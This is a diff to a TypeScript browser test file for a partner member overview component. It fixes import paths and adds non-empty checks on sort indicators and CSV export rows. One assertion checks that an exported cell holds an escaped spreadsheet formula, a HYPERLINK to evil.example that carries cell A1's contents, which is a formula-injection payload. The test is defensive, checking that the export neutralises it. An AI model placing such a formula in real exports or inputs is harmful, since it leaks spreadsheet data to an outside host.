@@ -5,9 +5,9 @@ import type { Member, MemberQuery } from '@poly-partner/contract';
 import type { PartnerClient } from '@poly-partner/sdk';
 import '../src/components/partner-member-overview/partner-member-overview.js';
 import type { PartnerMemberOverview } from '../src/components/partner-member-overview/partner-member-overview.js';
-import { FetchFaults } from './support/fetch-faults.js';
-import { mount, part, textOf, waitForText } from './support/mount.js';
-import { clientFor, sandboxConfig } from './support/sandbox.js';
+import { FetchFaults } from '../../../test/support/browser/fetch-faults.js';
+import { mount, part, textOf, waitForText } from '../../../test/support/browser/mount.js';
+import { clientFor, sandboxConfig } from '../../../test/support/browser/sandbox.js';
 import { sendKeys } from './support/keyboard.js';
 import { runWidgetBaseTests } from './support/widget-base-tests.js';
 import { parseCsv } from './support/csv-parse.js';
@@ -290,6 +290,7 @@ describe('<partner-member-overview>', function () {
     }
     // Sortable columns say so before they are sorted.
     const indicators = [...shadow(el).querySelectorAll<HTMLElement>("[role='columnheader'] .sort-indicator")];
+    expect(indicators.length, 'sortable columns').to.be.greaterThan(0);
     expect(indicators.every((mark) => mark.textContent!.length > 0 && mark.offsetWidth > 0), 'every sortable column shows a mark').to.be.true;
   });
 
@@ -433,6 +434,7 @@ describe('<partner-member-overview>', function () {
       'Next tier', 'Progress to next tier', 'Requirements met', 'Missing for the next tier', 'Missing to keep the tier',
     ]);
     expect(body.length, 'one line per member of the filtered list').to.equal(total);
+    expect(body.length, 'members in the file').to.be.greaterThan(0);
     expect(body.every((row) => row.length === header!.length), 'every row has every column').to.be.true;
     expect(body.every((row) => row[4] === 'Silver'), 'only Silver members, by name').to.be.true;
     expect(body.some((row) => row[0]!.startsWith(`'=HYPERLINK("http://evil.example/?"&A1,"Click") `))).to.be.true;
@@ -474,6 +476,7 @@ describe('<partner-member-overview>', function () {
     expect(body.slice(0, 3).map((row) => row[0])).to.deep.equal(card.members.slice(0, 3).map((member) => member.name));
     const policy = await client.program.get();
     const regionNames = new Set(policy.regions.map((region) => region.name.de));
+    expect(body.length, 'members in the file').to.be.greaterThan(0);
     expect(body.every((row) => regionNames.has(row[3]!)), 'German region names').to.be.true;
     expect(body.every((row) => /^\d+(,\d)? %$/.test(row[9]!)), `percentages with a decimal comma: ${body[0]![9]}`).to.be.true;
     const named = body.filter((row) => row[11]!.startsWith('braucht '));
